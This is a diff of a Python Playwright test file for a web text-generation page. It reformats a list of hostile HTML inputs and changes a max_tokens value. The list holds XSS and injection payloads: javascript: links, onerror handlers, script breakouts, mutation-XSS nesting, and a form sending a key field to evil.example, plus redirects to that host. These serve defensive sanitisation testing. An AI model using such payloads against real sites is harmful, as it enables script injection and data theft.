@@ -23,9 +23,12 @@ HOSTILE = (
     "<p style='position:fixed;inset:0'>over all</p>",
     "[click](javascript:alert(1)) <a href=' javascript:alert(1)'>b</a>",
     "<form action='https://evil.example'><input name=key><button id=page>Send</button></form>",
-    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href='https://evil.example/a.css'><object data='https://evil.example'></object>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<base href='https://evil.example/'>"
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href='https://evil.example/a.css'>"
+    "<object data='https://evil.example'></object>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
+    "</mtext></math>",
     "```html\n<img src=x onerror=alert(1)></code></pre><script>alert(1)</script>\n```",
     '<a href="https://evil.example" onclick="alert(1)" id="panel" class="bar">link</a>',
     "</div></body></html><script>alert(1)</script>",
@@ -52,7 +55,7 @@ def test_the_same_seed_gives_the_same_text_as_another_branch(page: Page) -> None
 
 
 def test_stop_keeps_the_text_and_continue_gives_the_rest(page: Page) -> None:
-    page.get_by_label("max_tokens", exact=True).fill("400")
+    page.get_by_label("max_tokens", exact=True).fill("1900")
     page.get_by_text("More fields").click()
     page.get_by_label("ignore_eos", exact=True).select_option("true")
     page.get_by_label("Message", exact=True).fill("count")
